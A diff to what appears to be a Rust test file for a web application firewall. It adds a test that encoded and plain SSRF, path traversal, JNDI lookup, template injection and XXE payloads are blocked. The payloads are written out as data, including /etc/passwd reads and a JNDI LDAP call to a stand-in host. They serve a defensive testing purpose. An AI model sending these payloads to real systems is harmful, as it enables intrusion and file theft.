@@ -78,3 +78,40 @@ fn base64_if_encoded_feeds_detectors_and_keeps_plain_values() {
     let (iv, _) = get(&e, "/?u=Administrator", &[]);
     assert_eq!(iv.map(|i| i.status), Some(403));
 }
+
+/// The detectors that decode inside (SSRF, path traversal, JNDI, SSTI, XXE) run with `t:none` in the pack: a
+/// value that is base64 of an attack, or still percent-encoded after the query's own decoding, must reach their
+/// decoding layers, also when an earlier detector rule has already filled the evaluator's per-value class cache
+/// (rule 1); the attack as sent plain is blocked too, a benign word and a hex id are not.
+#[test]
+fn decoding_layers_stay_on_for_encoded_values() {
+    let cases: &[(&str, &str, &str, &str)] = &[
+        ("detectSSRF", "http%3A%2F%2F127.0.0.1%2Fadmin", "aHR0cDovLzEyNy4wLjAuMS9hZG1pbg%3D%3D", "http%253A%252F%252F127.0.0.1%252Fadmin"),
+        ("detectPathTraversal", "..%2F..%2F..%2Fetc%2Fpasswd", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D", "..%252F..%252F..%252Fetc%252Fpasswd"),
+        (
+            "detectJndi",
+            "%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D",
+            "JHtqbmRpOmxkYXA6Ly9lLmV4YW1wbGUvYX0%3D",
+            "%2524%257Bjndi%253Aldap%253A%252F%252Fe.example%252Fa%257D",
+        ),
+        ("detectSSTI", "%7B%7B7*7%7D%7D", "e3s3Kjd9fQ%3D%3D", "%257B%257B7%252A7%257D%257D"),
+        (
+            "detectXXE",
+            "%3C!DOCTYPE+a+%5B%3C!ENTITY+x+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Ca%3E%26x%3B%3C%2Fa%3E",
+            "PCFET0NUWVBFIGEgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0%2BPGE%2BJng7PC9hPg%3D%3D",
+            "%253C%2521DOCTYPE%2520a%2520%255B%253C%2521ENTITY%2520x%2520SYSTEM%2520%2522file%253A%252F%252F%252Fetc%252Fpasswd%2522%253E%255D%253E%253Ca%253E%2526x%253B%253C%252Fa%253E",
+        ),
+    ];
+    for &(op, plain, b64, double) in cases {
+        for warm in [false, true] {
+            let first = if warm { "SecRule ARGS \"@detectSQLi\" \"id:1,phase:1,pass,nolog\"\n" } else { "" };
+            let e = engine(&format!("{first}SecRule ARGS \"@{op}\" \"id:2,phase:1,deny,status:403\""));
+            for v in [plain, b64, double] {
+                let (iv, _) = get(&e, &format!("/?v={v}"), &[]);
+                assert!(iv.is_some_and(|i| i.status == 403), "{op} (cache warm: {warm}) missed {v}");
+            }
+            let (iv, _) = get(&e, "/?v=hello&w=4f6c0d2e8b1a4c7d9e3f5a6b7c8d9e0f", &[]);
+            assert!(iv.is_none(), "{op} blocked a benign value");
+        }
+    }
+}
